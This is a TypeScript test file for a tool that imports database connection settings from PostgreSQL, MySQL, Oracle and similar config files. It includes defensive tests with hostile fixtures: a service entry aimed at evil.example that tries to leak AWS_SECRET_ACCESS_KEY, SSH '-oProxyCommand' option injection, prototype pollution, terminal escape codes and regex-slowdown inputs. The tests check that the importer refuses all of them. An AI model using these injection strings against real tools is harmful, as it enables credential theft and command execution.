import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as fc from 'fast-check';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { testHome } from '#integration/home.fixture.ts';
import type * as JsonFile from '#platform/json-file.ts';
import { writeAtomically } from '#platform/json-file.ts';
import { openConnectionStore } from '../connections/connections.ts';
import { findInFile, findInUsualPlaces, judgeFound, saveFound } from './find-connections.ts';
import { sources } from './sources.ts';

vi.mock('#platform/json-file.ts', async (load) => {
  const real = await load<typeof JsonFile>();
  return { ...real, writeAtomically: vi.fn(real.writeAtomically) };
});

let folder: string;
beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'dyno-import-'));
  for (const name of ['PGSERVICEFILE', 'PGPASSFILE', 'PGSYSCONFDIR', 'TNS_ADMIN', 'ORACLE_HOME', 'ODBCINI'])
    vi.stubEnv(name, '');
  vi.stubEnv('HOME', folder);
});
afterEach(() => {
  vi.unstubAllEnvs();
  rmSync(folder, { recursive: true, force: true });
});
const write = (name: string, content: string | Buffer): string => {
  writeFileSync(join(folder, name), content);
  return join(folder, name);
};

describe('an import', () => {
  it('knows each format by the name of its file, or by what is in it', () => {
    write('.pg_service.conf', '[a]\nhost=a\nuser=u\n');
    write('.pgpass', 'a:*:*:u:s3cret\n');
    write('.my.cnf', '[client]\nhost=m\n');
    mkdirSync(join(folder, '.config/azuredatastudio/User'), { recursive: true });
    write('.config/azuredatastudio/User/settings.json', '{"datasource.connections": [{}]} trailing');
    const { files, problems } = findInUsualPlaces();
    expect(files.map(({ label }) => label)).toEqual([
      'PostgreSQL services',
      'PostgreSQL passwords',
      'MySQL and MariaDB options',
    ]);
    expect(problems).toEqual([expect.objectContaining({ message: expect.stringContaining('not JSON') })]);
    expect(files[0]?.found[0]).toMatchObject({ passwords: { password: 's3cret' } });
    expect(findInFile(write('exported', 'ORCL=(DESCRIPTION=(ADDRESS=(HOST=o)(PORT=1)))')).label).toBe(
      'Oracle net service names',
    );
    expect(findInFile(write('connections.json', '[{"connectionType":"mysql","host":"h"}]')).label).toContain(
      'Beekeeper',
    );
    const accounts = 'root:x:0:0:root:/root:/bin/bash\n';
    expect(() => findInFile(write('accounts', accounts))).toThrow(/no connections/);
    expect(() => findInFile(write('notes.txt', 'nothing here'))).toThrow(/no connections/);
    expect(() => findInFile(join(folder, 'notes.txt'), 'pgservice')).toThrow(/no format/);
  });

  it('says of each entry what it uses of this machine', () => {
    const { found } = findInFile(
      write(
        'stranger.env',
        [
          'OIDC="mongodb://127.0.0.1:27999/?authMechanism=MONGODB-OIDC&authMechanismProperties=ENVIRONMENT:k8s"',
          'ENTRA="Server=tcp:h,1433;Authentication=Active Directory Default;Encrypt=true"',
          'THICK="oracle://u@h/s?mode=thick&libDir=/tmp/lib"',
          'ZERO="mongodb://h/?tls=true&tlsCAFile=/dev/zero"',
          'PLAIN="postgres://u@h/d"',
        ].join('\n'),
      ),
    );
    const uses = judgeFound(found, []).map((one) => [one.name, one.uses.map((use) => /\((\w+)\)$/.exec(use)?.[1])]);
    expect(Object.fromEntries(uses)).toEqual({
      OIDC: ['identity', 'identity'],
      ENTRA: ['identity'],
      THICK: ['code', 'code'],
      ZERO: ['file'],
      PLAIN: [],
    });
  });

  it('names duplicates, and saves what is new under a free name', async () => {
    await using test = testHome();
    const store = openConnectionStore(test.home);
    store.save({ id: null, name: 'shop', engine: 'postgres', values: { host: 'db', user: 'app' }, passwords: {} });
    const { found } = findInFile(
      write(
        'pg_service.conf',
        '[same]\nhost=db\nport=5432\nuser=app\npassword=s3cret\n[shop]\nhost=other\nuser=app\npassword=s3cret\n[twice]\nhost=other\nuser=app\n[none]\nhost=a,b\n',
      ),
    );
    const entries = judgeFound(found, store.list().connections);
    expect(entries.map(({ name, sameAs, problem }) => [name, sameAs, problem !== null])).toEqual([
      ['same', 'shop', false],
      ['shop', null, false],
      ['twice', 'shop', false],
      ['none', null, true],
    ]);
    expect(JSON.stringify(entries)).not.toContain('s3cret');
    expect(saveFound(store, [found[1]!], false)[0]).toMatchObject({ name: 'shop 2', passwords: { password: 'ask' } });
    expect(() => saveFound(store, [found[3]!], false)).toThrow(/cannot be imported/);
    expect(JSON.stringify(store.list())).not.toContain('s3cret');
  });
});

describe('many entries', () => {
  const services = (count: number, rest = '') =>
    Array.from({ length: count }, (_, n) => `[${n % 2 ? `SHOP${n - 1}` : `shop${n}`}]\nhost=h${n}\nuser=app\n`).join(
      '',
    ) + rest;

  it('are saved in one write, each under a name of its own', async () => {
    await using test = testHome();
    const store = openConnectionStore(test.home);
    const { found } = findInFile(write('pg_service.conf', services(200)));
    vi.mocked(writeAtomically).mockClear();
    expect(saveFound(store, found, false).map(({ name }) => name)).toEqual(
      expect.arrayContaining(['shop0', 'SHOP0 2', 'shop198', 'SHOP198 2']),
    );
    expect(writeAtomically).toHaveBeenCalledTimes(1);
    expect(store.list()).toMatchObject({ problem: null, connections: { length: 200 } });
  });

  it('are not saved at all where one of them cannot be', async () => {
    await using test = testHome();
    const store = openConnectionStore(test.home);
    const { found } = findInFile(write('pg_service.conf', services(3, '[none]\nhost=a,b\n')));
    expect(() => saveFound(store, found, false)).toThrow(/cannot be imported/);
    const bad = { engine: 'postgres', values: { host: 'h' }, passwords: {} };
    expect(() =>
      store.addAll([
        { ...bad, name: 'good' },
        { ...bad, name: '' },
      ]),
    ).toThrow(/needs a name|spaces/);
    expect(() =>
      store.addAll([
        { ...bad, name: 'good' },
        { ...bad, name: 'x', values: { password: 's3cret' } },
      ]),
    ).toThrow(/plain text/);
    expect(store.addAll([{ ...bad, name: 'noop' }])).toMatchObject([{ name: 'noop 2' }]);
    expect(store.list().connections.map(({ name }) => name)).toEqual(['noop 2']);
  });
});

describe('a hostile file', () => {
  it('cannot draw passwords out of the user’s own, or have variables sent', async () => {
    await using test = testHome();
    write('.pgpass', '*:*:*:*:s3cret\n');
    const text = `[bait]\nhost=evil.example\nuser=\${env:AWS_SECRET_ACCESS_KEY}\n`;
    const { found } = findInFile(write('pg_service.conf', text));
    expect(JSON.stringify(found)).not.toContain('s3cret');
    expect(judgeFound(found, [])).toMatchObject([{ problem: expect.stringContaining('environment variable') }]);
    expect(() => saveFound(openConnectionStore(test.home), [found[0]!], false)).toThrow(/cannot be imported/);
  });

  it('cannot name a command, a colour or another property of the store', async () => {
    await using test = testHome();
    const json =
      '[{"__proto__":{"connectionType":"mysql"},"connectionType":"postgresql","name":"a\\u001b[31m\\nb","host":"-oProxyCommand=x","sshEnabled":true,"sshHost":"-oProxyCommand=touch /tmp/x","passwords":{"password":{"command":["sh"]}},"hue":1}]';
    const { found } = findInFile(write('x.json', json));
    const store = openConnectionStore(test.home);
    const [entry] = judgeFound(found, []);
    expect(entry).toMatchObject({ name: 'a [31m b', missing: expect.stringContaining('ssh.host') });
    expect(saveFound(store, [found[0]!], true)[0]).toMatchObject({ passwords: {}, name: 'a [31m b' });
  });

  it('is bounded in size and depth, and cannot make a format slow', () => {
    expect(() => findInFile(write('big.json', Buffer.alloc(4_000_001, 0x20)))).toThrow(/larger than/);
    const texts = [
      `[${'['.repeat(150_000)}`,
      `{"datasource.connections":${'[{"a":'.repeat(100_000)}`,
      `x=${'('.repeat(150_000)}`,
      '[a]\n'.repeat(50_000),
      'a='.repeat(150_000),
      `"${'\\"'.repeat(150_000)}`,
      '/*'.repeat(150_000),
      ','.repeat(150_000),
      `${' '.repeat(150_000)}x`,
      ':'.repeat(150_000),
      '\\'.repeat(150_000),
    ].map((text) => Buffer.from(text));
    for (const source of sources)
      for (const bytes of texts)
        try {
          // A backtracking regular expression would take hours.
          source.read(bytes, '/nowhere');
        } catch (thrown) {
          expect(String(thrown)).toMatch(/not JSON|nested too deep/);
        }
  });

  it('is refused or read, whatever is in it', () => {
    const piece = fc.constantFrom(
      '[',
      ']',
      'a',
      'host',
      '=',
      '\n',
      '(',
      ')',
      ':',
      '\\',
      '"',
      ',',
      '{',
      '}',
      '#',
      'postgres://',
      '\0',
      'mysql',
      '%',
      '@',
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 60 }), fc.uint8Array({ maxLength: 60 }), (pieces, noise) => {
        for (const bytes of [Buffer.from(pieces.join('')), Buffer.from(noise)])
          for (const source of sources) {
            let found: ReturnType<typeof source.read> = [];
            try {
              found = source.read(bytes, '/nowhere');
            } catch (thrown) {
              expect(String(thrown)).toMatch(/not JSON|nested too deep/);
            }
            for (const entry of judgeFound(found, []))
              expect(entry.problem === null || entry.address === null).toBe(true);
          }
      }),
      { numRuns: 300 },
    );
  });
});
